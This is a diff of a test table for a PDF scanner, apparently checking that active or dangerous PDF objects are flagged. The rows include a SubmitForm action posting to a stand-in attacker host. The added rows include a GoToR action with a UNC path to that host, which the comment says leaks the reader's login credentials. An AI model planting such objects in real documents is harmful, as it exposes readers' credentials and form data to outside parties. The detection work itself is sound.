@@ -25,6 +25,8 @@ test.each([
   ['one embedded file', '<< /Type /EmbeddedFile >>'],
   ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
   ['a film', '<< /Subtype /RichMedia >>'],
+  ['a film of the older kind', '<< /Subtype /Movie /Movie << /F (x.avi) >> >>'],
+  ['a way to a file elsewhere, which a reader opens with the name and password of whoever reads', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>'],
   ['a form with scripts of its own', '<< /AcroForm << /XFA 9 0 R >> >>'],
 ])('%s is found as it lies in the file', async (_what, object) => {
   expect(await pdfFault(pdf(object))).toBe('pdfActive');
